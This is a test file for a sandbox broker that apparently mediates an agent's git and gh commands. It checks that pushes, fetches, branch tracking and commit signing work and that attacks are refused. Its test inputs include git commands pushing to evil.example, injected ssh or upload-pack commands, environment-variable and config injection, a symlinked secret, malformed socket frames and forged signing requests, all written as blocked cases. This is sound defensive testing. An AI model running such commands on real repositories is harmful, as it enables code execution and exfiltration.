import { execFileSync, spawnSync } from 'node:child_process'
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { outsideWork } from '../../src/adapters/broker/outside.ts'
import { brokerSockets } from '../../src/adapters/broker/sockets.ts'
import { systemIds } from '../../src/adapters/system/ids.ts'
import { onPath } from '../../src/adapters/system/on-path.ts'
import { Broker } from '../../src/sandbox/broker/broker.ts'
import type { BrokerRecord } from '../../src/sandbox/broker/brokered-call.ts'
import { commandText } from '../../src/sandbox/broker/command-text.ts'
import { type SandboxWorld, sandboxWorld } from '../world/sandbox.ts'
import { plainGit } from '../world/scratch.ts'

interface BrokerWorld extends SandboxWorld {
  origin: string
  asked: string[]
  /** What became of each gh command, with its output. */
  ended: [string, string | undefined][]
  records: BrokerRecord[]
  /** How each command ended that went through the permission chain: its exit code, or why it did not run. */
  endings: [call: string, end: number | string | undefined][]
  /** Why the permission chain says no; undefined lets everything run. */
  answer: { why: string | undefined }
  /** Who commits, if the user wants signatures, and their git settings. */
  signer: { user: { name: string; email: string } | undefined; settings?: string }
  inOrigin: (...args: string[]) => string
}

/** A project with a remote that only the outside reaches, and a session's sandbox with the broker. */
async function brokerWorld({ isSigned = false } = {}): Promise<BrokerWorld> {
  const asked: string[] = []
  const records: BrokerRecord[] = []
  const endings: BrokerWorld['endings'] = []
  const ended: [string, string | undefined][] = []
  const answer: { why: string | undefined } = { why: undefined }
  const signer: BrokerWorld['signer'] = { user: undefined }
  const world = await sandboxWorld({ isClosed: true })
  const origin = await world.project.remote()
  const folder = join(world.state, 'sandbox/broker')
  const broker = new Broker({
    sockets: brokerSockets({
      folder,
      node: process.execPath,
      hasProgram: () => true,
      fault: (during, cause) => records.push({ command: during, cwd: '', refused: String(cause) }),
    }),
    outside: outsideWork({
      folder,
      environmentOf: async () => ({
        PATH: `${world.scratch.path}/bin:${process.env.PATH}`,
        GH_TOKEN: 'the-token',
        HOME: world.home,
        ...plainGit,
        ...(signer.settings ? { GIT_CONFIG_GLOBAL: signer.settings } : {}),
      }),
      findProgram: (name, path) => onPath(name, { PATH: path }),
      // In place of Baton's own program: asks for the steps of `baton claim ready`, and says what it got.
      ownProgram: async () => ({
        words: [process.execPath, '-e', OWN, '--'],
        env: { PATH: process.env.PATH },
      }),
      ids: systemIds,
    }),
    async whyNot(_, { words }) {
      asked.push(commandText(words))
      return answer.why
    },
    takeRelease: async () => undefined,
    ended: async (_, { words }, output) => void ended.push([commandText(words), output]),
    requestAccess: async (_, { kind, name }) => ({ isGranted: kind === 'host', line: `asked about ${name}` }),
    signer: async () => signer.user,
    now: () => Date.now(),
    newCall: () => `broker_${asked.length + 1}`,
    record: async (_, { request, ...entry }) => {
      records.push(entry)
      if (request) endings.push([request.call, entry.exit ?? entry.refused])
    },
    fault: (during, cause) => records.push({ command: during, cwd: '', refused: String(cause) }),
  })
  world.session = await world.open('ses_test', {
    broker: await broker.open('ses_test', world.project.path, []),
    ...(isSigned
      ? {
          identity: {
            name: 'Me',
            email: 'me@example.com',
            signsIn: join(world.project.path, '.git'),
          },
        }
      : {}),
  })
  const inOrigin = (...args: string[]) =>
    execFileSync('git', ['--git-dir', origin, ...args], {
      encoding: 'utf8',
      env: { ...process.env, ...plainGit },
    }).trim()
  return Object.assign(world, {
    origin,
    asked,
    ended,
    records,
    endings,
    answer,
    signer,
    inOrigin,
    async [Symbol.asyncDispose]() {
      await broker.end('ses_test')
      await world.sandbox.endAllExcept(new Set())
      world.scratch.remove()
    },
  })
}

/** Commands that would run a program, reach another place or delete something outside. */
const REFUSED = [
  'git push https://evil.example/x.git HEAD',
  'git -c core.sshCommand="touch owned" push origin HEAD',
  'git --git-dir=.git push origin HEAD',
  'git fetch --upload-pack="touch owned" origin',
  'git push --receive-pack="touch owned" origin HEAD',
  `git fetch 'ext::sh -c "touch owned"'`,
  'git push origin HEAD:refs/baton/x',
  'git push origin :main',
]

describe('the broker, with real git in a real sandbox', { timeout: 240_000 }, () => {
  test('pushes what a compound command committed, fetches and pulls; git inside sets the refs', async () => {
    await using world = await brokerWorld()
    const pushed = await world.run(
      'git switch -qc feature && echo new > new.txt && git add new.txt && git commit -qm "add new" && git push -u origin HEAD && git status -sb | head -1',
    )
    expect(pushed).toMatchObject({ code: 0 })
    expect(world.inOrigin('log', '-1', '--format=%s', 'feature')).toBe('add new')
    expect(pushed.stdout).toContain('## feature...origin/feature')
    expect(world.records).toEqual([
      {
        command: 'git push -u origin feature',
        cwd: world.project.path,
        exit: 0,
        pushed: [{ commit: world.inOrigin('rev-parse', 'feature'), target: 'refs/heads/feature' }],
      },
    ])

    const other = join(world.scratch.path, 'other')
    const env = { ...process.env, ...plainGit }
    const inOther = (...args: string[]) => execFileSync('git', args, { cwd: other, env, encoding: 'utf8' })
    execFileSync('git', ['clone', '-q', '-b', 'feature', world.origin, other], { env })
    writeFileSync(join(other, 'theirs.txt'), 'theirs\n')
    inOther('add', '-A')
    inOther('-c', 'user.name=O', '-c', 'user.email=o@example.com', 'commit', '-qm', 'their change')
    inOther('tag', 'v1')
    inOther('push', '-q', 'origin', 'HEAD', 'HEAD:refs/heads/second', 'v1')
    const fetched = await world.run(
      'git fetch && git log -1 --format=%s origin/feature && git rev-parse FETCH_HEAD v1 origin/second && git ls-remote --heads origin && git pull --ff-only && cat theirs.txt',
    )
    expect(fetched).toMatchObject({ code: 0 })
    for (const words of ['their change', 'refs/heads/second', 'theirs\n'])
      expect(fetched.stdout).toContain(words)
    inOther('push', '-q', 'origin', ':second')
    const pruned = await world.run('git fetch --prune -q && git branch -r')
    expect(pruned.stdout).toContain('origin/main')
    expect(pruned.stdout).not.toContain('origin/second')
    expect(world.asked).toEqual([
      'git push -u origin feature',
      ...['git fetch origin', 'git ls-remote --heads origin', 'git fetch origin'],
      'git fetch --prune -q origin',
    ])
  })

  test('a no, a failing hook and what it does not understand leave the remote as it was', async () => {
    await using world = await brokerWorld()
    const before = world.inOrigin('for-each-ref')
    world.answer.why = 'the user said no'
    const said = await world.run('git commit -q --allow-empty -m x && git push; echo "code $?"')
    expect(said.stdout).toContain('code 1')
    expect(said.stderr).toContain('baton: the user said no')
    expect(world.records).toMatchObject([{ command: 'git push origin main', refused: 'the user said no' }])
    expect(world.asked.splice(0)).toEqual(['git push origin main'])

    const refused = await world.run(REFUSED.map(command => `${command}; echo "code $?"`).join('\n'))
    expect(refused.stdout).toBe('code 1\n'.repeat(REFUSED.length))
    expect(refused.stderr).toMatch(new RegExp(`^(baton: .+\\n){${REFUSED.length}}$`))

    const hook = join(world.project.path, '.git/hooks/pre-push')
    writeFileSync(hook, '#!/bin/sh\ncat; test ! -e "$HOME/.ssh" && echo "hook for $1"; exit 3\n', {
      mode: 0o755,
    })
    const hooked = await world.run('git push')
    expect(hooked).toMatchObject({ code: 3 })
    expect(hooked.stdout).toContain('hook for origin')
    expect(hooked.stdout).toMatch(/refs\/heads\/main [0-9a-f]{40} refs\/heads\/main [0-9a-f]{40}/)

    // A stand-in for gh, outside: what it gets, and from where.
    world.scratch.write(
      'bin/gh',
      '#!/bin/sh\necho "gh $*"; echo "token $GH_TOKEN"; ls -A; cat; exit 4\n',
      0o755,
    )
    world.answer.why = undefined
    world.scratch.write('home/me/project/body.md', 'text of the body')
    const forged = await world.run(
      'gh issue view 3 --web; gh auth token; gh pr comment 3 --repo acme/project --body-file body.md; echo "code $? ${GH_TOKEN-none}"',
    )
    expect(forged.stdout).toBe(
      'gh pr comment --repo=acme/project --body-file=- -- 3\ntoken the-token\ntext of the bodycode 4 none\n',
    )
    expect(forged.stderr).toMatch(/^(baton: gh .+\n){2}$/)
    const shown = 'gh pr comment 3 --repo acme/project --body-file body.md'
    expect(world.asked.splice(0)).toEqual([shown])
    // It failed, so what it was allowed to do once is not used up.
    expect(world.ended).toEqual([[shown, undefined]])

    // Another repository is left alone: what it reaches is inside.
    const elsewhere = await world.run(
      'git init -q --bare /tmp/there.git && git init -q /tmp/here && cd /tmp/here && git commit -q --allow-empty -m x && git push -q /tmp/there.git HEAD:main && git ls-remote /tmp/there.git && git remote add o /tmp/there.git && git fetch -q o && echo fetched',
    )
    expect(elsewhere.stdout).toContain('refs/heads/main')
    expect(elsewhere.stdout).toContain('fetched')
    expect(world.asked).toEqual([])
    expect(world.inOrigin('for-each-ref')).toBe(before)
    expect(existsSync(join(world.project.path, 'owned'))).toBe(false)
  })

  test('Baton’s own command runs outside; what it checks runs inside, and its push goes through the broker', async () => {
    await using world = await brokerWorld()
    const ran = await world.run(
      'git commit -q --allow-empty -m claimed && baton claim ready --summary "Say hello" && cat checked.txt; baton allow ask_1',
    )
    expect(ran.stdout).toBe(
      `${JSON.stringify([world.project.path, ['claim', '--summary=Say hello', '--', 'ready'], 0, 0])}\n${world.project.path}\n`,
    )
    expect(ran.stderr).toBe(
      'baton: baton allow does not run from inside the sandbox. An agent can use: done, status, claim, request, handoff.\n',
    )
    expect(world.inOrigin('log', '-1', '--format=%s', 'main')).toBe('claimed')
    // The whole was decided once; its push is a part of it.
    expect(world.asked).toEqual(["baton claim ready --summary 'Say hello'"])
  })

  test('nothing that a command sets, links or says to the socket has an effect outside', async () => {
    await using world = await brokerWorld()
    const evil = join(world.home, 'evil.git')
    const other = join(world.home, 'other')
    execFileSync('git', ['init', '-q', '--bare', evil])
    execFileSync('git', ['init', '-q', other])
    const secret = world.inHome('secret.txt', 'secret')
    const set = `export GIT_SSH_COMMAND='touch owned' GIT_PROXY_COMMAND='touch owned' GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.url GIT_CONFIG_VALUE_0=${evil}`
    const pushed = await world.run(
      `git config remote.origin.url ${evil}; ln -sf ${secret} .git/FETCH_HEAD; ${set}; git fetch; git commit -q --allow-empty -m away && git push`,
    )
    expect(pushed).toMatchObject({ code: 0 })
    expect(readFileSync(secret, 'utf8')).toBe('secret')
    expect(world.inOrigin('log', '-1', '--format=%s', 'main')).toBe('away')
    expect(execFileSync('git', ['--git-dir', evil, 'for-each-ref'], { encoding: 'utf8' })).toBe('')
    expect(existsSync(join(world.project.path, 'owned'))).toBe(false)

    world.scratch.write('home/me/project/talk.mjs', TALK)
    const node = '/.baton/node talk.mjs'
    world.asked.splice(0)
    const talked = await world.run(
      `${node} huge; ${node} junk; ${node} other; ${node} lies; ls /.baton/broker; ls ${world.state}; touch /.baton/bin/git; git ls-remote -q origin`,
    )
    const lines = talked.stdout.split('\n')
    expect(lines.slice(0, 2)).toEqual(['huge: closed', 'junk: closed'])
    expect(lines[2]).toContain('not a command that the broker understands')
    expect(lines[3]).toContain('lies:')
    // Its own socket, and none of another session.
    expect(talked.stdout).toContain('\nsocket\n')
    expect(talked.stdout).toContain('refs/heads/main')
    expect(talked.stderr).toContain('No such file or directory')
    expect(talked.stderr).toContain('Read-only file system')
    expect(world.asked).toEqual(['git ls-remote -q origin'])

    // Objects of another project must not be pushed as this one's.
    const borrowed = await world.run(
      `echo ${other}/.git/objects > .git/objects/info/alternates; git commit -q --allow-empty -m x; git push`,
    )
    expect(borrowed.code).not.toBe(0)
    expect(borrowed.stderr).toContain('not where they were')
    expect(world.inOrigin('log', '-1', '--format=%s', 'main')).toBe('away')
  })
})

const OWN = `
const got = []
process.on('message', ({ id, answer }) => {
  got.push(id === 1 ? answer : answer.code)
  if (id === 1) return process.send({ id: 2, do: 'push', branch: 'main', force: false })
  console.log(JSON.stringify([process.cwd(), process.argv.slice(1), ...got]))
  process.disconnect()
})
process.send({ id: 1, do: 'check', text: 'test -S /.baton/broker/socket && pwd > checked.txt' })
`

/** A program inside that speaks to the broker itself. */
const TALK = `
import { connect } from 'node:net'
const what = process.argv[2]
const frame = (kind, text) => {
  const content = Buffer.from(text)
  const head = Buffer.alloc(5)
  head.writeUInt8(kind, 0)
  head.writeUInt32BE(content.length, 1)
  return Buffer.concat([head, content])
}
const socket = connect('/.baton/broker/socket')
let said = ''
socket.on('error', () => {})
socket.on('close', () => console.log(what + ': ' + (said === '' ? 'closed' : said.replaceAll(/[^ -~]/g, ' '))))
const hello = { program: 'git', argv: ['push', 'origin', 'HEAD:main'], cwd: '/etc' }
if (what === 'huge') socket.write(Buffer.from([0, 0x7f, 0xff, 0xff, 0xff]))
if (what === 'junk') socket.write('GET / HTTP/1.1')
if (what === 'other') socket.write(frame(0, '{"program":1}'))
if (what === 'lies') socket.write(frame(0, JSON.stringify(hello)))
socket.on('data', data => {
  said += data.toString('latin1')
  if (what === 'lies' && said.includes('describe')) socket.write(frame(0, JSON.stringify({ answer: { top: process.cwd(), refs: [{ ref: '../../../x', id: 'y' }], shallow: [], settings: [] } })))
  if (said.includes('"exit"')) socket.end()
})
`

describe('new branches', { timeout: 240_000 }, () => {
  test('follow the branch of a remote that they were made from, with no message about the read-only configuration', async () => {
    await using world = await brokerWorld()
    await world.project.git('push', '-q', 'origin', 'HEAD:main', 'HEAD:theirs', 'HEAD:mine', 'HEAD:last')
    await world.project.git('fetch', '-q', 'origin')
    const config = (name: string) => world.project.git('config', `branch.${name}.merge`).catch(() => '')
    const cases: [string, string, string][] = [
      ['git switch -c one origin/main', 'one', 'refs/heads/main'],
      ['git checkout -q -b two origin/main', 'two', 'refs/heads/main'],
      ['git switch theirs', 'theirs', 'refs/heads/theirs'],
      ['git checkout --track origin/mine', 'mine', 'refs/heads/mine'],
      ['git branch three origin/main', 'three', 'refs/heads/main'],
      ['git branch four && git branch -u origin/last four', 'four', 'refs/heads/last'],
      ['git switch --no-track -c five origin/main', 'five', ''],
      ['git switch -c six', 'six', ''],
      ['git checkout -q main -- . ; git switch -q main && git branch seven one', 'seven', ''],
    ]
    for (const [command, branch, merge] of cases) {
      const ran = await world.run(command)
      expect(ran, command).toMatchObject({ code: 0 })
      expect(ran.stderr, command).not.toMatch(/busy|could not|error|note:/i)
      expect(await config(branch), command).toBe(merge)
    }
    expect((await world.run('git switch -q one && git status -sb')).stdout).toContain('## one...origin/main')
    expect((await world.run('git switch nowhere')).code).not.toBe(0)
    // Only remotes and branches that are there.
    const call = (words: string) => `/.baton/node --no-warnings /.baton/client/client.* upstream ${words}`
    const before = readFileSync(join(world.project.path, '.git/config'), 'utf8')
    for (const words of [
      '--set-upstream-to=evil/main one',
      '--set-upstream-to=origin/none one',
      "--set-upstream-to=origin/main 'one\"]\n[core]'",
    ])
      await world.run(call(words))
    expect(readFileSync(join(world.project.path, '.git/config'), 'utf8')).toBe(before)
  })
})

describe('a branch that is renamed or copied', { timeout: 240_000 }, () => {
  test('has its new name, follows what it followed, and git says nothing of the read-only configuration', async () => {
    await using world = await brokerWorld()
    await world.project.git('push', '-q', 'origin', 'HEAD:main')
    await world.project.git('fetch', '-q', 'origin')
    const config = (name: string) => world.project.git('config', `branch.${name}.merge`).catch(() => '')
    const cases: [string, string, string | undefined, string][] = [
      ['git switch -q -c one && git branch -m two', 'two', 'one', ''],
      ['git branch -m two three', 'three', 'two', ''],
      ['git switch -q -c four origin/main && git branch -m five', 'five', 'four', 'refs/heads/main'],
      ['git branch --move five six', 'six', 'five', 'refs/heads/main'],
      ['git -C . branch -M six seven', 'seven', 'six', 'refs/heads/main'],
      ['git branch -c seven eight', 'eight', undefined, 'refs/heads/main'],
      ['git switch -q three && git branch -M seven', 'seven', 'three', 'refs/heads/main'],
      ['git branch -M seven', 'seven', undefined, 'refs/heads/main'],
      ['git branch -m seven', 'seven', undefined, 'refs/heads/main'],
      ['git branch -M eight eight', 'eight', undefined, 'refs/heads/main'],
    ]
    for (const [command, branch, gone, merge] of cases) {
      const ran = await world.run(command)
      expect(ran, command).toMatchObject({ code: 0 })
      expect(ran.stderr, command).not.toMatch(/busy|could not|error|fatal|note:/i)
      const branches = (await world.run('git branch --format="%(refname:short)"')).stdout.split('\n')
      expect(branches, command).toContain(branch)
      expect(branches, command).not.toContain(gone)
      expect(await config(branch), command).toBe(merge)
    }
    expect((await world.run('git status -sb')).stdout).toMatch(/^## seven/)
    for (const command of [
      'git branch -m nowhere other',
      'git branch -m eight seven',
      'git branch -m "a b"',
    ]) {
      const ran = await world.run(command)
      expect(ran.code, command).not.toBe(0)
      expect(ran.stderr, command).toMatch(/fatal/)
    }
  })
})

describe('signed commits', { timeout: 240_000 }, () => {
  const SSH_KEYGEN = 'ssh-keygen'
  const KEY_USER = { name: 'Me', email: 'me@example.com' }

  async function signedWorld() {
    const world = await brokerWorld({ isSigned: true })
    // The project's own settings say nothing about signing.
    await world.project.git('config', '--unset', 'commit.gpgsign')
    await world.project.git('config', 'user.name', KEY_USER.name)
    await world.project.git('config', 'user.email', KEY_USER.email)
    const key = world.inHome('.ssh/key', '')
    rmSync(key)
    execFileSync(SSH_KEYGEN, ['-q', '-t', 'ed25519', '-N', '', '-C', 'me', '-f', key])
    const settings = world.inHome(
      '.gitconfig-user',
      `[user]\n\tsigningkey = ${key}.pub\n[gpg]\n\tformat = ssh\n[commit]\n\tgpgsign = true\n`,
    )
    Object.assign(world.signer, { user: KEY_USER, settings })
    const signers = world.inHome('signers', `me@example.com ${readFileSync(`${key}.pub`, 'utf8')}`)
    /** Whether git outside accepts the signature of a commit. */
    const isSigned = (name: string, cwd = world.project.path) => {
      const words = ['-c', `gpg.ssh.allowedSignersFile=${signers}`, 'verify-commit', name]
      return spawnSync('git', words, { cwd, env: { ...process.env, ...plainGit } }).status === 0
    }
    return Object.assign(world, { isSigned, key })
  }

  test('the broker signs what a command commits in the project, also amended and rebased, with a key that stays outside', async () => {
    await using world = await signedWorld()
    const ran = await world.run(
      'git switch -qc feature && echo a > a.txt && git add a.txt && git commit -qm "add a" && echo b > b.txt && git add b.txt && git commit -qm "add b" && git commit -q --amend -m "add b again" && git rebase -q --force-rebase HEAD~2',
    )
    expect(ran).toMatchObject({ code: 0 })
    for (const name of ['feature', 'feature~1']) expect(world.isSigned(name)).toBe(true)
    expect(world.isSigned('feature~2')).toBe(false)
    expect(world.records.map(({ command }) => command)).toContain('sign commit add b again')
    expect((await world.run(`cat ${world.key}`)).code).not.toBe(0)
    // The literal key, through the agent, is the other form; without an agent it fails and nothing is committed.
    const before = await world.project.git('rev-parse', 'feature')
    world.inHome('.gitconfig-user', '[user]\n\tsigningkey = ssh-ed25519 AAAA\n[gpg]\n\tformat = ssh\n')
    const failed = await world.run('echo c > c.txt && git add c.txt && git commit -qm c')
    expect(failed.code).not.toBe(0)
    // Git shows its own words only; the record has the reason.
    expect(world.records.at(-1)?.refused).toContain('This commit is not signed: ssh-keygen did not sign it')
    expect(await world.project.git('rev-parse', 'feature')).toBe(before)
  })

  test('nothing else gets a signature', async () => {
    await using world = await signedWorld()
    const sign = '/.baton/bin/baton-sign --status-fd=2 -bsau baton'
    const tree = (await world.project.git('rev-parse', 'HEAD^{tree}')).trim()
    const now = Math.floor(Date.now() / 1000)
    const me = `Me <me@example.com> ${now} +0000`
    const commit = (text: string) => `printf '${text.replaceAll('\n', '\\n')}' | ${sign}`
    const refused: [string, RegExp][] = [
      ['git tag -s -m x v1', /not a commit/],
      [commit('hello'), /not a commit/],
      [commit(`tree ${tree}\nauthor ${me}\ncommitter ${me}\nmergetag object x\n\nx`), /not a commit/],
      [
        commit(`tree ${tree}\nauthor ${me}\ncommitter Other <o@example.com> ${now} +0000\n\nx`),
        /not the user/,
      ],
      [commit(`tree ${tree}\nauthor ${me}\ncommitter Me <me@example.com> 1000 +0000\n\nx`), /not now/],
      [commit(`tree ${'1'.repeat(40)}\nauthor ${me}\ncommitter ${me}\n\nx`), /not in the repository/],
      [commit(`tree ${tree}\nparent ${tree}\nauthor ${me}\ncommitter ${me}\n\nx`), /not in the repository/],
      ['echo x | /.baton/bin/baton-sign --status-fd=2 --export-secret-keys', /only commits/],
      [
        `cd "$(mktemp -d)" && git init -q && ${commit(`tree ${tree}\nauthor ${me}\ncommitter ${me}\n\nx`)}`,
        /project/,
      ],
    ]
    for (const [command, why] of refused) {
      const ran = await world.run(command)
      expect(ran.code, command).not.toBe(0)
      expect(world.records.at(-1)?.refused, command).toMatch(why)
      expect(ran.stdout, command).not.toContain('SIGNATURE')
    }
    // Other repositories, such as those of a test, commit without one.
    const other = await world.run(
      'cd "$(mktemp -d)" && git init -q && git commit -q --allow-empty -m x && git log --format=%G? -1',
    )
    expect(other).toMatchObject({ code: 0, stdout: 'N\n' })
    world.signer.user = undefined
    expect((await world.run('git commit -q --allow-empty -m x')).code).not.toBe(0)
    expect(world.records.at(-1)?.refused).toContain('sandbox.sign_commits is off')
  })
})
